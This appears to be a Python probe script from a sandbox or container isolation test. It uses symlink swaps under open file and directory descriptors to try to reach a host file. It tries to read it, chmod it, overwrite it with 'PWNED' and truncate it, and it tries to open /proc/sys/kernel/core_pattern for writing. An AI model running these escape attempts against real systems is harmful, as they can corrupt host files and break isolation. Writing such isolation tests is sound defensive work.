"""Tries to reach a host file through names that changed under an open file; prints what it got."""

import json
import os
import sys

target, here = sys.argv[1], sys.argv[2]
got = {}


def attempt(name, action):
    try:
        got[name] = str(action())
    except OSError as error:
        got[name] = type(error).__name__


os.chdir(here)
fd = os.open("f", os.O_RDWR | os.O_CREAT)
os.unlink("f")
os.symlink(target, "f")
attempt("reopen", lambda: open(f"/proc/self/fd/{fd}").read())
attempt("chmod", lambda: os.fchmod(fd, 0o666))
attempt("write", lambda: os.write(fd, b"PWNED"))
attempt("truncate", lambda: os.ftruncate(fd, 0))
attempt("through the link", lambda: open("f").read())
os.mkdir("d")
directory = os.open("d", os.O_RDONLY)
os.rmdir("d")
os.symlink(os.path.dirname(target), "d")
attempt("list", lambda: os.listdir(directory))
attempt("chmod directory", lambda: os.fchmod(directory, 0o777))
attempt("open below", lambda: os.open(os.path.basename(target), os.O_RDONLY, dir_fd=directory))
alias = "/alias"
if os.path.isdir(alias):
    with open("g", "w") as f:
        f.write("mine")
    os.stat(f"{alias}/g")
    os.unlink("g")
    os.symlink(target, "g")
    attempt("alias", lambda: open(f"{alias}/g").read())
for name in ("kernel/core_pattern", "kernel/hostname"):
    attempt(name, lambda name=name: os.open(f"/proc/sys/{name}", os.O_WRONLY))
print(json.dumps(got))
